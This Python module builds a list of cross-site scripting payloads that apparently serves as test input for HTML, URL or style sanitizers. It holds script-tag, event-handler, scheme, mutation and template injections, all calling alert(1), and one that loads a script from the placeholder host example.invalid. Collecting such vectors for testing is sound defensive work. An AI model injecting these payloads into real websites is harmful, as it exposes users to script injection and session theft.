"""Markup that runs a script where text is taken for HTML, an address or a style."""

from itertools import product

_CALL = "alert(1)"
_ELEMENTS = {
    "img": "src=x", "svg": "", "body": "", "video": "src=x", "audio": "src=x", "iframe": "src=x",
    "input": "autofocus", "select": "autofocus", "textarea": "autofocus", "details": "open",
    "marquee": "", "object": "data=x", "embed": "src=x", "link": "rel=stylesheet href=x",
    "style": "", "x": "contenteditable autofocus tabindex=1",
}  # fmt: skip
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onpointerenter", "onbegin")
_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:", "data:text/html,",
            "vbscript:", "&#106;avascript:", "blob:", "javascript&colon;")  # fmt: skip
_WHOLE = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//example.invalid/x.js></sCrIpT>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<base href='//example.invalid/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)' id=x name=attributes>x</a>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(1)>",
    "--><img src=x onerror=alert(1)>",
    "]]><img src=x onerror=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "[x](javascript:alert(1))",
    "![x](x\"onerror=\"alert(1))",
    "<img src=x onerror=alert(1)//",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "<plaintext>",
    "<!--<img src=x onerror=alert(1)>",
    "<title></title><img src=x onerror=alert(1)>",
    "expression(alert(1))",
    "</style><script>alert(1)</script>",
    "<img src=`x` onerror=alert`1`>",
)  # fmt: skip

VECTORS = (
    *_WHOLE,
    *(f"{scheme}{_CALL}" for scheme in _SCHEMES),
    *(f"<{name} {rest} {event}={_CALL}>"
      for (name, rest), event in product(_ELEMENTS.items(), _EVENTS)),
)  # fmt: skip
